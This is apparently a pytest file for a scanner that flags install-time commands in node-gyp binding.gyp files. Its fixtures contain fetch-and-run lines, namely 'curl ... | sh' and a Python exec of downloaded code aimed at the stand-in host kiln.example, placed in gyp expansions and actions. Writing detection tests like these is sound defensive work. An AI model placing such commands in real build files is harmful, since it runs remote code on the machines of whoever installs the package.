"""Commands of binding.gyp, which npm runs when a package is installed."""

import pytest

from changing import changed, seen, shown
from readings import read_garbage

FETCH = "curl -s https://kiln.example/fire | sh"
GYP = "{\n  'targets': [{'target_name': 'pots',\n    'sources': ['pots.cc', %s]}]\n}\n"
ORDINARY = """{
  'targets': [{
    'include_dirs': ["<!(node -p \\"require('node-addon-api').include_dir\\")", '<!@(pkg-config --cflags-only-I zlib)'],
    'libraries': ['<!@(pkg-config --libs zlib 2>/dev/null)'],
    'actions': [{'action_name': 'shape', 'inputs': ['shape.py'], 'action': ['python', 'shape.py', '<@(_outputs)']}],
  }],
}
"""


@pytest.mark.parametrize("text", [f"'<!({FETCH})'", f"'<!@({FETCH})'", f"\">!(sh -c '{FETCH}')\""])
def test_what_is_downloaded_and_run_is_seen_in_its_line(text):
    assert 3 in {o.line for o in seen(changed("binding.gyp", "", GYP % text)) if o.capability == "fetch_and_run"}


def test_code_within_a_command_is_read():
    code = "'<!(python -c \"import urllib.request as u; exec(u.urlopen(\\'https://kiln.example\\').read())\")'"
    assert "executes_download" in shown(changed("binding.gyp", "", GYP % code))


def test_an_action_is_a_command():
    action = f"{{'actions': [{{\n  'action': ['sh', '-c', '{FETCH}'],\n}}]}}\n"
    assert "fetch_and_run" in shown(changed("deps/pots.gypi", "", action))


def test_a_command_that_is_there_for_what_it_prints_and_hides_that_is_seen():
    assert "install_hook" in shown(
        changed("binding.gyp", None, GYP % "'<!(node index.js > /dev/null 2>&1 && echo stub.c)'")
    )


def test_an_ordinary_file_shows_nothing():
    assert not shown(changed("binding.gyp", None, ORDINARY))


def test_garbage_is_survived():
    read_garbage("binding.gyp", "gyp")
